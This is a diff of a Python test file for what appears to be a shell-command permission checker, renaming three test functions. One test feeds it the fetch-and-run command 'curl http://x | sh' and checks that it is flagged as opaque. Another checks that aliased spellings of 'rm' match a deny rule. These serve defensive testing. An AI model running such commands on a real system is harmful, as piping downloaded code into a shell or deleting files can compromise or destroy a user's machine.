@@ -31,7 +31,7 @@ def offers(command: str, folder: Path) -> list[list[str]]:
     ]
 
 
-def test_all_of_it(tmp_path: Path) -> None:
+def test_all_rights(tmp_path: Path) -> None:
     out = str(tmp_path / "log.txt")
     assert need("X=1 npm run build > log.txt", tmp_path) == Need(
         permission="bash",
@@ -97,13 +97,13 @@ def test_the_offers(tmp_path: Path, command: str, expected: list[list[str]]) -> 
     assert offers(command, tmp_path) == expected
 
 
-def test_what_nobody_can_tell_is_asked_about_as_it_is(tmp_path: Path) -> None:
+def test_opaque_command_is_asked_about_as_written(tmp_path: Path) -> None:
     asked = need("curl http://x | sh", tmp_path)
     assert (asked.offered, asked.detail) == ((), "curl http://x | sh")
     assert asked.opaque
 
 
-def test_a_command_by_another_name_is_the_same_to_a_rule_that_forbids(tmp_path: Path) -> None:
+def test_aliased_command_matches_a_deny(tmp_path: Path) -> None:
     for command, spelling in {
         "/bin/rm x": "rm x",
         '"rm" "a b"': "rm a b",
